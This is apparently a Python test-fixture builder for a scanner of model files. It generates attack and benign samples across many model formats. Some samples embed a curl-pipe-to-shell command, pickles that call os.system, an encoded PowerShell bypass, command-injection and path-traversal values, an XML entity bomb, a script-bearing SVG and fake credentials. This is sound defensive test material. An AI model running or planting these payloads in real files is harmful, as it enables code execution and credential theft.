"""What runtimes beside the large ones load: operators that none of them has, libraries that metadata names, code in TorchScript,
texts of trees and parameters, tables of cron; and credentials among the constants of pickles."""
import json
import struct

from assembly import Call, Name, dump
from graphs import CALM, attribute, external, graph, node, onnx_model, op, saved_model
from samples import field, gguf, npy, safetensors, tarred, torch_zip, zipped

PLAIN = dump({"weight": [1.0]}, 2)
CLASS = b"\xca\xfe\xba\xbe\0\0\x004\0\x1d" + bytes(300)
MANIFEST = b"Manifest-Version: 1.0\nMain-Class: Assay\n"
FETCH = "curl -s http://198.51.100.7/a | sh"
TENSOR = {"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
TOKEN = "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"
AWS = "q9Zr4Tn8XvKc2Lm6Wp1Yb5Hd7Jf3Gs0Ea+/uRiOk"


def openvino(kind, version, more=""):
    return ('<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"/>'
            f'<layer id="1" name="c" type="{kind}" version="{version}">{more}</layer></layers><edges/></net>')


def symbol(kind, **attributes):
    nodes = [{"op": "null", "name": "data", "inputs": []}, {"op": kind, "name": "c", "attrs": attributes, "inputs": []}]
    return json.dumps({"nodes": nodes, "arg_nodes": [0], "heads": [[1, 0, 0]]})


def paddle(*kinds):
    return field(1, [b"\x08\0\x10\0", *[field(4, [field(3, kind)]) for kind in kinds]]) + field(4, b"\x08\0")


def script(line):
    source = ("class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n  def forward(self: __torch__.M,\n"
              f"    x: Tensor) -> Tensor:\n    {line}\n    return x\n")
    return zipped([("m/data.pkl", PLAIN), ("m/constants.pkl", dump((), 2)), ("m/code/__torch__.py", source.encode()), ("m/version", b"3\n")])


def tensor(dimensions, values):
    return [*[field(1, side & (1 << 64) - 1) for side in dimensions], field(2, 1), field(8, "w"), field(9, values)]


def msgpack(key, value):
    raw = value.encode()
    return b"\x81" + bytes([0xA0 | len(key)]) + key.encode() + b"\xda" + struct.pack(">H", len(raw)) + raw


TREE = "tree\nversion=v4\nnum_class=1\nfeature_names={}\nfeature_infos=[0:1]\n\nTree=0\nnum_leaves=1\nleaf_value=0\n\nend of trees\n\nparameters:\n[boosting: gbdt]\n{}end of parameters\n\npandas_categorical:null\n"


def graphs(samples):
    a, b = samples.attack, samples.benign
    a("lesser/openvino_extension.xml", openvino("AssayRun", "extension"), "OpenVINO layer of an extension", "medium")
    a("lesser/openvino_unknown.xml", openvino("SystemCall", "opset1"), "OpenVINO layer that no operator set has", "medium")
    b("lesser/openvino_tokenizer.xml", openvino("BPETokenizer", "extension"), "layer of OpenVINO's own tokenizers")
    b("lesser/openvino_plain.xml", openvino("ScaledDotProductAttention", "opset13"), "layer of an operator set")
    a("lesser/torch-symbol.json", symbol("TorchModule", lua_string="os.execute('id')"), "MXNet operator that runs Lua", "high")
    a("lesser/unknown-symbol.json", symbol("AssayRun"), "MXNet operator that MXNet lacks", "medium")
    b("lesser/plain-symbol.json", symbol("FullyConnected", num_hidden="10"), "MXNet operator")
    a("lesser/unknown.pdmodel", paddle("relu", "assay_run"), "PaddlePaddle operator that PaddlePaddle lacks", "medium")
    a("lesser/py_layer.pdmodel", paddle("relu", "py_layer"), "PaddlePaddle operator in Python", "high")
    b("lesser/plain.pdmodel", paddle("feed", "conv2d", "relu", "sequence_pool", "fetch"), "PaddlePaddle operators")
    layer = [field(1, "custom_layer")]
    program = field(502, [field(2, [field(1, "main"), field(2, [field(3, [field(1, "iOS15"), field(2, [field(3, layer)])])])])])
    a("lesser/program.mlmodel", field(1, 7) + field(2, [field(1, [field(1, "x")])]) + program, "Core ML program with a custom layer", "medium")
    service = op("AzureTextToText", "com.microsoft.extensions")
    a("lesser/service.onnx", onnx_model([service], opsets=(("", 17), ("com.microsoft.extensions", 1))), "operator that calls a service", "high")
    a("lesser/python_of_extensions.onnx", onnx_model([op("PyCustomOpDef_run", "ai.onnx.contrib")], opsets=(("", 17), ("ai.onnx.contrib", 1))), "Python operator of ONNX Runtime's extensions", "medium")
    a("lesser/plugin.onnx", onnx_model([op("TRT_PluginV2", "trt.plugins")], opsets=(("", 17), ("trt.plugins", 1))), "plug-in of TensorRT", "medium")
    for number, place in enumerate(["．．／secret", "..∕..∕secret", "‥/secret", "`id`", "|id"]):
        a(f"lesser/place_{number}.onnx", onnx_model([op("Relu")], [external(place)]), f"external data at {place!r}", "medium")
    a("lesser/place_empty.onnx", onnx_model([op("Relu")], [external("")]), "external data in a file without a name", "low")
    for name, library in {"path": "/tmp/libassay.so", "name": "libassay_ops.so.1.2", "windows": "C:\\assay\\ops.dll", "json": json.dumps({"session": {"custom_ops_library": "./ops.dylib"}})}.items():
        a(f"lesser/library_{name}.onnx", onnx_model([op("Relu")], metadata=[("ops", library)]), f"metadata that names a library: {name}", "medium")
        a(f"lesser/library_{name}.gguf", gguf([("general.architecture", "llama"), ("general.ops", library)]), f"metadata that names a library: {name}", "medium")
        a(f"lesser/library_{name}.safetensors", safetensors({"__metadata__": {"ops": library}, **TENSOR}, bytes(4)), f"metadata that names a library: {name}", "medium")
    b("lesser/library_prose.onnx", onnx_model([op("Relu")], metadata=[("notes", "built against libcudart.so and tested without it")]), "prose about a library")
    a("lesser/plugin.engine", b"ftrt" + bytes(60) + b"libassay_plugin.so\0" + bytes(60), "TensorRT engine that names a library without a path", "medium")
    for kind in ["DebugIdentity", "DebugIdentityV2", "DebugNanCount", "CloseSummaryWriter", "XlaCustomCallV2", "WorkerHeartbeat"]:
        a(f"lesser/{kind}/saved_model.pb", saved_model(graph(CALM, node("y", kind))), f"operator {kind}", "medium")
    constant = [field(1, 7), field(2, []), field(8, b"/tmp/assay")]
    fixed = graph(node("path", "Const", attribute("value", field(8, constant))), node("s", "SaveV2", field(3, "path"), field(3, "names")))
    a("lesser/fixed_target/saved_model.pb", saved_model(fixed), "SaveV2 to a constant path", "medium")
    samples.add("malformed/lesser/dimensions.onnx", onnx_model([op("Relu")], [tensor([1 << 40], bytes(8))]), "malformed", "dimensions beyond the values", "low")
    samples.add("malformed/lesser/negative.onnx", onnx_model([op("Relu")], [tensor([-5], bytes(8))]), "malformed", "negative dimension", "low")
    b("lesser/dimensions.onnx", onnx_model([op("Relu")], [tensor([2], bytes(8))]), "dimensions that fit the values")
    samples.add("malformed/lesser/truth.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1) + b"a" + struct.pack("<IB", 7, 7), "malformed", "truth value of seven", "low")
    samples.add("malformed/lesser/uncounted.gguf", gguf([("general.architecture", "llama"), ("a", 1)]).replace(struct.pack("<QQ", 0, 2), struct.pack("<QQ", 0, 1), 1), "malformed", "pair that the header does not count", "low")
    samples.add("malformed/lesser/token.gguf", gguf([("tokenizer.ggml.tokens", ["a"]), ("tokenizer.ggml.bos_token_id", 9999)]), "malformed", "token beyond the vocabulary", "low")
    samples.add("malformed/lesser/behind.gguf", gguf([("general.architecture", "llama")]) + b"A" * 5000, "malformed", "bytes behind the tensors", "low")


def programs(samples):
    a, b = samples.attack, samples.benign
    for name, line in {"python_operator": '_0 = ^AssayRun("id")(x)', "read": '_0 = ops.image.read_file("/etc/passwd")', "write": 'ops.image.write_file("/tmp/assay", x)', "library": 'ops.load_library("/tmp/assay.so")'}.items():
        a(f"lesser/script_{name}.pt", script(line), f"TorchScript: {name}", "medium")
    a("lesser/script_import.pt", script('import os\n    os.system("id")'), "TorchScript that is Python", "high")
    b("lesser/script_power.pt", script("_0 = torch.mul(x, 2 ^ 3)"), "TorchScript with an operator that looks alike")
    a("lesser/class.bin", CLASS, "Java class named as weights", "high")
    a("lesser/dex.bin", b"dex\n035\0" + bytes(200), "Android classes named as weights", "high")
    a("lesser/lua.bin", b"\x1bLua\x53\0\x19\x93\r\n\x1a\n" + bytes(60), "compiled Lua named as weights", "high")
    a("lesser/jar.zip", zipped([("META-INF/MANIFEST.MF", MANIFEST), ("Assay.class", CLASS)]), "Java archive", "medium")
    a("lesser/jar_member.tar", tarred([("m/config.json", b"{}"), ("m/run.jar", zipped([("META-INF/MANIFEST.MF", MANIFEST), ("Assay.class", CLASS)]))]), "Java archive beside a model", "medium")
    a("lesser/batch.pkl", "@echo off\r\npowershell -ExecutionPolicy Bypass -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA\r\n", "batch file named as a pickle", "medium")
    a("lesser/cron/etc/cron.d/model", f"*/5 * * * * root {FETCH}\n", "table of cron", "medium")
    a("lesser/cron.tar", tarred([("etc/cron.d/model", b"0 3 * * * root /opt/assay/run\n"), ("model.txt", b"x")]), "table of cron in an archive", "medium")
    a("lesser/bazel/.bazelrc", f"build --workspace_status_command=\"bash -c '{FETCH}'\"\n", "settings of Bazel with a command", "medium")
    a("lesser/shell/.zshenv", FETCH + "\n", "start-up file of a shell", "medium")
    a("lesser/udev/assay.rules", f"ACTION==\"add\", RUN+=\"/bin/sh -c '{FETCH}'\"\n", "rule of udev with a command", "medium")
    a("lesser/wrapper.pt2", zipped([("archive_format", b"pt2"), ("version", b"6\n"), ("data/aotinductor/model/c.wrapper.cpp", f'int main() {{ system("{FETCH}"); }}\n'.encode())]), "compiled program's source with a command", "medium")
    code = '__import__("os").system("id")'
    a("lesser/names.txt", TREE.format(code, ""), "code for a feature's name in LightGBM", "low")
    a("lesser/parameters.txt", TREE.format("a", f"[data: {FETCH}]\n"), "command among LightGBM's parameters", "low")
    b("lesser/trees.txt", TREE.format("a", "[data: train.csv]\n"), "LightGBM model")
    a("lesser/code.msgpack", msgpack("apply_fn", code + " " * 300), "code in a text of MessagePack", "low")
    a("lesser/token.msgpack", msgpack("token", TOKEN), "credential in a text of MessagePack", "medium")
    pmml = ('<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/><DataDictionary/>'
            "<Extension><script>run()</script></Extension></PMML>")
    a("lesser/element.pmml", pmml, "script as an element of a PMML extension", "medium")
    a("lesser/quadratic.pmml", '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a "' + "A" * 50_000 + '">]><PMML version="4.4">' + "&a;" * 20_000 + "</PMML>", "entity that is used again and again", "medium")
    a("lesser/picture.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://198.51.100.7/")</script></svg>', "script in an image", "low")


def settings(samples):
    a, b = samples.attack, samples.benign

    def keras(layer):
        return zipped([("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}).encode()), ("metadata.json", b"{}"), ("model.weights.h5", b"")])

    dense = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1}}
    a("lesser/registered.keras", keras({**dense, "registered_name": "os>system"}), "registered name of another package", "medium")
    a("lesser/dotted.keras", keras({**dense, "class_name": "Dense.__init__.__globals__"}), "dotted class of Keras", "medium")
    b("lesser/registered.keras", keras({**dense, "registered_name": "Dense"}), "registered name of Keras")
    shown = {"__class__": "system", "__module__": "os", "__loader__": "OperatorFuncNode", "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []}}
    a("lesser/operator.skops", zipped([("schema.json", json.dumps({**shown, "protocol": 2}).encode())]), "operator node that shows a command", "critical")
    a("lesser/elsewhere/modules.json", json.dumps([{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}]), "module outside of the folder", "high")
    a("lesser/remote/modules.json", json.dumps([{"idx": 0, "name": "0", "path": "", "type": "assay/repository--modeling.M"}]), "module of another repository", "high")
    a("lesser/poses/config.json", json.dumps({"model_type": "llama", "weights_url": "https://huggingface.co.assay.example/x"}), "address that poses as another's", "medium")
    manifest = {"model": {"modelName": "m", "modelVersion": "1.0"}}
    for name, key, value in [("handler", "handler", "os:system"), ("address", "serializedFile", "http://198.51.100.7/m.pt")]:
        model = {**manifest["model"], "handler": "image_classifier", "serializedFile": "m.pt", key: value}
        a(f"lesser/{name}.mar", zipped([("MAR-INF/MANIFEST.json", json.dumps({"model": model}).encode()), ("m.pt", torch_zip(PLAIN))]), f"TorchServe manifest: {name}", "medium")
    a("lesser/resolve/modeling_x.py", 'import pkgutil\npkgutil.resolve_name("os:system")("id")\n', "name that is resolved", "high")
    a("lesser/token.pkl", dump({"hparams": {"hub": TOKEN}}), "credential in a pickle", "medium")
    a("lesser/token.p0.pkl", dump({"hparams": {"hub": TOKEN}}, 0), "credential in a pickle of protocol 0", "medium")
    a("lesser/key_by_name.pkl", dump({"hparams": {"aws_secret_access_key": AWS}}), "credential in a pickle, told by its key", "medium")
    a("lesser/pem.pkl", dump({"key": "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF0Pb\n-----END RSA PRIVATE KEY-----"}), "private key in a pickle", "medium")
    b("lesser/words.pkl", dump({"tokenizer": "microsoft/deberta-v3-base-finetuned", "token": "[CLS]", "secret_layer.weight.projection": "model.layers.0.self_attn.q_proj"}), "words that are no credentials")
    a("lesser/input.pkl", b"c__builtin__\ninput\n(S'x'\ntR.", "input of Python 2, which evaluates", "critical")
    a("lesser/partial.pkl", b"cfunctools\npartial\n(cbuiltins\nprint\ntR(cos\nsystem\n(S'id'\nt}Ntb)R.", "partial that gets another function", "critical")
    empty = zipped([])
    for name in ["x.keras", "x.pt", "x.skops"]:
        samples.add(f"malformed/lesser/{name}", empty, "malformed", "archive without members", "low")
    whole = zipped([("archive/data.pkl", PLAIN), ("archive/version", b"3\n")])
    samples.add("malformed/lesser/comment.zip", whole[:-2] + struct.pack("<H", 500), "malformed", "comment that breaks off", "low")
    samples.add("malformed/lesser/disks.zip", whole[:-18] + struct.pack("<HH", 3, 3) + whole[-14:], "malformed", "archive of several disks", "low")
    b("lesser/arrays.npz", zipped([("a.npy", npy(data=bytes(16), dtype="<f4", shape=(4,)))]), "arrays")


def build(samples):
    graphs(samples)
    programs(samples)
    settings(samples)
